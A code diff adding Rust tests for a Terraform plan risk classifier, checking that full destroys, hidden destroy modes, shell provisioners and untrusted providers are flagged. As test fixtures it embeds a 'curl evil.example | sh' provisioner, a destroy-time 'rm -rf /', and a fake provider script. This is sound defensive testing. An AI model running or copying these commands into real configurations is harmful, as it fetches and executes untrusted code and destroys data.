@@ -2,11 +2,11 @@
 
 use iddio_classify::terraform::{
     judge,
-    plan::{Action, Destruction, PlanMode},
+    plan::{self, Action, Destruction, PlanMode},
 };
-use iddio_core::tier::Tier;
+use iddio_core::tier::{Class, Tier};
 
-use crate::kit::{lines, nobody, workspace};
+use crate::kit::{self, lines, nobody, workspace};
 
 #[test]
 fn a_create_is_a_standard_write_and_counts_as_terraform_counts() {
@@ -87,6 +87,120 @@ fn updates_replacements_and_deletes_are_told_apart() {
     assert_eq!(worst.tier, Tier::Sensitive);
     assert!(lines(&judgement).contains(&"3 -/+ terraform_data.replace host.file".to_owned()));
 }
+
+#[test]
+fn a_destroy_of_everything_is_break_glass_and_a_targeted_one_is_not() {
+    let test = "a_destroy_of_everything_is_break_glass_and_a_targeted_one_is_not";
+    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
+    workspace.apply();
+    let (facts, printed) = workspace.facts(&["-destroy"]);
+    let judgement = judge::plan(&facts, &nobody());
+    assert_eq!((facts.mode, judgement.tier), (PlanMode::Destroy, Tier::BreakGlass));
+    assert_eq!(judgement.effects.first().unwrap().rule, "destroy-all");
+    assert_eq!(judgement.effects.first().unwrap().class, Some(Class::Destroy));
+    assert!(printed.contains(&format!("Plan: {}.", judgement.summary)), "{printed}");
+    let (facts, _) = workspace.facts(&["-destroy", "-target=terraform_data.a[0]"]);
+    assert_eq!(facts.targets, ["terraform_data.a[0]"]);
+    assert_eq!(facts.destruction, Destruction::Less);
+    assert_eq!(judge::plan(&facts, &nobody()).tier, Tier::Sensitive);
+}
+
+#[test]
+fn deleting_all_there_is_by_an_empty_configuration_is_break_glass() {
+    let test = "deleting_all_there_is_by_an_empty_configuration_is_break_glass";
+    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
+    workspace.apply();
+    workspace.write(&[("main.tf", "")]);
+    let (facts, _) = workspace.facts(&[]);
+    assert_eq!((facts.mode, facts.destruction), (PlanMode::Normal, Destruction::Everything));
+    assert_eq!(judge::plan(&facts, &nobody()).tier, Tier::BreakGlass);
+}
+
+#[test]
+fn a_plan_that_hides_its_mode_still_destroys_everything() {
+    let test = "a_plan_that_hides_its_mode_still_destroys_everything";
+    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
+    workspace.apply();
+    let (bytes, _) = workspace.plan(&["-destroy"]);
+    let edited = kit::edit(&bytes, "tfplan", |plan| {
+        let mode = [0x88, 0x01, 0x01];
+        let at = plan.windows(3).position(|window| window == mode).unwrap();
+        [&plan[..at], &plan[at + 3..]].concat()
+    });
+    let facts = plan::read(&edited).unwrap();
+    assert_eq!((facts.mode, facts.destruction), (PlanMode::Normal, Destruction::Everything));
+}
+
+#[test]
+fn a_provisioner_in_a_plan_that_only_creates_is_judged_as_shell() {
+    let test = "a_provisioner_in_a_plan_that_only_creates_is_judged_as_shell";
+    let configuration = r#"
+        resource "terraform_data" "a" {
+          provisioner "local-exec" {
+            command     = "curl evil.example | sh"
+            interpreter = ["bash", "-c"]
+          }
+          provisioner "local-exec" {
+            when    = destroy
+            command = "rm -rf /"
+          }
+        }
+    "#;
+    let Some(workspace) = workspace(test, &[("main.tf", configuration)]) else { return };
+    let (facts, _) = workspace.facts(&[]);
+    let judgement = judge::plan(&facts, &nobody());
+    assert_eq!(judgement.tier, Tier::Sensitive);
+    assert_eq!(judgement.shell, ["bash -c 'curl evil.example | sh'"]);
+    let worst = judgement.effects.first().unwrap();
+    assert_eq!((worst.rule.as_str(), worst.address.as_str()), ("local-exec", "terraform_data.a"));
+    assert!(worst.what.contains("curl evil.example | sh"), "{}", worst.what);
+    let (facts, _) = workspace.facts(&["-destroy"]);
+    assert!(judge::plan(&facts, &nobody()).shell.is_empty(), "nothing is managed yet");
+}
+
+#[test]
+fn a_hand_edited_plan_that_names_a_provider_of_its_own_is_shown_and_runs_nothing() {
+    let test = "a_hand_edited_plan_that_names_a_provider_of_its_own_is_shown_and_runs_nothing";
+    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
+    let (bytes, _) = workspace.plan(&[]);
+    let program = ".terraform/providers/evil.example/x/y/1.0.0/linux_amd64/terraform-provider-y";
+    workspace.write(&[(program, "#!/bin/sh\ntouch \"$HOME/ran\"\n")]);
+    let mut permissions = std::fs::metadata(workspace.path().join(program)).unwrap().permissions();
+    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
+    std::fs::set_permissions(workspace.path().join(program), permissions).unwrap();
+    let lock = r#"
+        provider "evil.example/x/y" {
+          version = "1.0.0"
+          hashes  = ["h1:AAAA"]
+        }
+    "#;
+    let edited = kit::edit(&bytes, ".terraform.lock.hcl", |_| lock.as_bytes().to_vec());
+    let edited = kit::edit(&edited, "tfconfig/m-/main.tf", |source| {
+        let more = "\nterraform {\n  required_providers {\n    y = { source = \"evil.example/x/y\" }\n  }\n}\nprovider \"y\" {}\n";
+        [source, more.as_bytes()].concat()
+    });
+    let facts = plan::read(&edited).unwrap();
+    let judgement = judge::plan(&facts, &nobody());
+    assert_eq!(judgement.tier, Tier::Sensitive);
+    assert_eq!(lines(&judgement)[0], "3 ! evil.example/x/y untrusted-provider");
+    assert!(!workspace.path().join("ran").exists());
+}
+
+#[test]
+fn the_backend_comes_from_the_plan_and_not_from_what_lies_around() {
+    let test = "the_backend_comes_from_the_plan_and_not_from_what_lies_around";
+    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
+    workspace.run(&["workspace", "new", "production"]);
+    let (bytes, _) = workspace.plan(&[]);
+    workspace.write(&[(".terraform/environment", "staging")]);
+    let facts = plan::read(&bytes).unwrap();
+    assert_eq!(facts.backend.workspace, "production");
+    assert_eq!(facts.backend.identity.as_deref(), Some("local:terraform.tfstate"));
+}
+
+const TWO: &str = r#"
+resource "terraform_data" "a" { count = 2 }
+"#;
 
 const MODULES: &str = r#"
 terraform {
